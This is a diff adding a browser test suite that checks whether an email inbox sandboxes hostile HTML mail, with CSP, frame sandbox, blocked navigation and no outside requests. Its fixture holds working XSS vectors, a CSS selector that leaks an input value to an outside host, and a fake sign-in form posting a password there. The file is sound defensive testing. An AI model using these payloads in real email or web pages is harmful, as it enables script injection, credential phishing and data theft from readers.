@@ -1,0 +1,153 @@
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { loadEmail, sendEmail } from "../harness/api-client.ts";
+import { expectSoon } from "../harness/browser-expect.ts";
+import { type Outside, startOutside } from "../harness/browser-outside.ts";
+import { openStage, type Stage } from "../harness/browser-stage.ts";
+import { requestsElsewhere } from "../harness/browser-watch.ts";
+import { until } from "../harness/until.ts";
+
+let outside: Outside;
+let stage: Stage;
+let page: Page;
+let id: string;
+
+beforeAll(async () => {
+  outside = await startOutside();
+  stage = await openStage();
+  page = stage.page;
+  id = await sendEmail(stage.baseUrl, stage.member.key, {
+    to: "ada@example.com",
+    subject: "An offer",
+    html: hostileMail(outside.origin),
+  });
+  const isCaptured = async () => (await loadEmail(stage.baseUrl, stage.member.key, id)).status === "captured";
+  await until(isCaptured, { within: 15_000, what: "the email in the inbox" });
+});
+afterAll(async () => {
+  await stage?.close();
+  await outside?.close();
+});
+
+/** Everything in a mail that could run, load, submit, leave or cover something. */
+function hostileMail(elsewhere: string): string {
+  return `<!doctype html><html><head><base href="${elsewhere}/base/">
+    <meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
+    <link rel="stylesheet" href="${elsewhere}/sheet.css"><link rel="preconnect" href="${elsewhere}">
+    <link rel="prefetch" href="${elsewhere}/prefetch"><link rel="icon" href="${elsewhere}/icon.png">
+    <style>@import url("${elsewhere}/import.css");
+      @font-face { font-family: f; src: url("${elsewhere}/font.woff2"); }
+      body { background: url("${elsewhere}/background.png"); font-family: f; }
+      input[value^="a"] { list-style: url("${elsewhere}/leak.png"); display: list-item; }
+      .over { position: fixed; inset: -2000px; z-index: 2147483647; background: rgb(255 0 0 / 0.1); pointer-events: none; }</style>
+    <script>alert(top.pwned = 1)</script><script src="${elsewhere}/script.js"></script></head>
+    <body onload="alert(top.pwned = 1)"><h1>An offer</h1><div class="over"></div>
+    <img src="${elsewhere}/image.png" alt="picture"><img src="x" onerror="alert(top.pwned = 1)">
+    <svg onload="alert(top.pwned = 1)"><image href="${elsewhere}/svg.png"/><use href="${elsewhere}/use.svg#a"/></svg>
+    <video poster="${elsewhere}/poster.png" src="${elsewhere}/video" autoplay></video>
+    <iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>alert(top.pwned = 1)</script>"></iframe>
+    <object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
+    <form action="${elsewhere}/form" method="post" target="_top"><input name="password" value="a" autofocus>
+      <button>Sign in again</button></form>
+    <a href="${elsewhere}/link" target="_top" ping="${elsewhere}/ping">Read more</a>
+    <a href="${elsewhere}/here">Stay here</a> <a href="javascript:alert(top.pwned = 1)">Press</a></body></html>`;
+}
+
+const frame = () => page.frameLocator("iframe");
+
+async function expectQuiet(): Promise<void> {
+  expect(outside.hits.map(({ path }) => path)).toEqual([]);
+  expect(stage.visit.watch.dialogs).toEqual([]);
+  expect(await page.evaluate("'pwned' in window")).toBe(false);
+}
+
+test("K1 a mail in the inbox is shown in a frame that may do nothing, and does nothing", async () => {
+  await page.goto(`${stage.baseUrl}/inbox`);
+  await frame().getByRole("heading", { name: "An offer" }).waitFor();
+  const element = page.locator("iframe");
+  expect(await element.getAttribute("sandbox")).toBe("");
+  // The policy of the frame has been applied to everything in it once its refusals are on the console.
+  await expectSoon(() => stage.visit.watch.frameFaults.join("\n")).toMatch(/sheet\.css/);
+  await expectQuiet();
+});
+
+test("K1 its button submits nothing, its links lead nowhere", async () => {
+  await frame().getByRole("button", { name: "Sign in again" }).click();
+  await expectSoon(() => stage.visit.watch.frameFaults.join("\n")).toMatch(/form submission|Blocked form/i);
+  await frame().getByRole("link", { name: "Press" }).click();
+  await frame().getByRole("link", { name: "Read more" }).click();
+  await expectSoon(() => stage.visit.watch.frameFaults.join("\n")).toMatch(/navigation of the top-level/);
+  await frame().getByRole("link", { name: "Stay here" }).click();
+  await page.getByText("Links are off in the preview").waitFor();
+  await frame().getByRole("heading", { name: "An offer" }).waitFor();
+  expect(page.url()).toContain(`${stage.baseUrl}/inbox`);
+  expect(page.context().pages()).toHaveLength(1);
+  await expectQuiet();
+});
+
+test("K6 what covers its own page covers nothing of ours", async () => {
+  await page.getByRole("tab", { name: "Source" }).click();
+  await page.getByRole("tab", { name: "Preview" }).click();
+  await frame().getByRole("heading", { name: "An offer" }).waitFor();
+  const width = await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth");
+  expect(width).toBeLessThanOrEqual(0);
+});
+
+test("K1 the preview opened by itself, without our frame around it, is as harmless", async () => {
+  const single = await page.context().newPage();
+  const response = await single.goto(`${stage.baseUrl}/api/emails/${id}/preview`);
+  expect(response?.headers()["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);
+  expect(response?.headers()["content-security-policy"]).toContain("frame-ancestors 'self'");
+  await single.getByRole("heading", { name: "An offer" }).waitFor();
+  expect(await single.evaluate("origin")).toBe("null");
+  await expectQuiet();
+  await single.close();
+});
+
+test("K3 the source is plain text for everybody, whatever is in it", async () => {
+  const single = await page.context().newPage();
+  const response = await single.goto(`${stage.baseUrl}/api/emails/${id}/source`);
+  expect(response?.headers()).toMatchObject({
+    "content-type": "text/plain; charset=utf-8",
+    "x-content-type-options": "nosniff",
+    "cache-control": "no-store",
+  });
+  expect(await single.evaluate("document.contentType")).toBe("text/plain");
+  await expectQuiet();
+  await single.close();
+});
+
+test("K5 neither page nor frame asked anybody else, and the page kept to its own rules", () => {
+  expect(requestsElsewhere(stage.visit.watch, [stage.baseUrl])).toEqual([]);
+  expect(stage.visit.watch.faults).toEqual([]);
+});
+
+test("K5 the page's own policy lets nothing inline run, nothing frame it, and nothing write HTML into it", async () => {
+  const response = await page.goto(`${stage.baseUrl}/inbox`);
+  const policy = response?.headers()["content-security-policy"] ?? "";
+  expect(policy).toMatch(/^default-src 'none'; script-src 'self';/);
+  expect(policy).toContain("frame-ancestors 'none'");
+  expect(policy).not.toMatch(/unsafe-|\*/);
+  await frame().getByRole("heading", { name: "An offer" }).waitFor();
+  const writeHtml = "try { document.body.innerHTML = '<b>x</b>'; 'written' } catch (error) { error.name }";
+  expect(await page.evaluate(writeHtml)).toBe("TypeError");
+});
+
+test("K1 remote images come when the reader asks for them, without cookie and referrer, and nothing else does", async () => {
+  await page.getByRole("button", { name: "Load remote images" }).click();
+  await expectSoon(() => outside.hits.map(({ path }) => path)).toContain("/image.png");
+  await frame().getByRole("heading", { name: "An offer" }).waitFor();
+  await page.getByRole("button", { name: "Block remote images" }).click();
+  await frame().getByRole("heading", { name: "An offer" }).waitFor();
+  // Chromium lets a page prefetch from wherever any of its directives lets it load: the images' in this case.
+  const allowed = ["/base/x", "/prefetch", /\.png$/];
+  for (const { path, headers } of outside.hits) {
+    expect(
+      allowed.some((one) => (typeof one === "string" ? one === path : one.test(path))),
+      path,
+    ).toBe(true);
+    expect(headers).not.toHaveProperty("cookie");
+    expect(headers).not.toHaveProperty("referer");
+  }
+  expect(stage.visit.watch.dialogs).toEqual([]);
+});
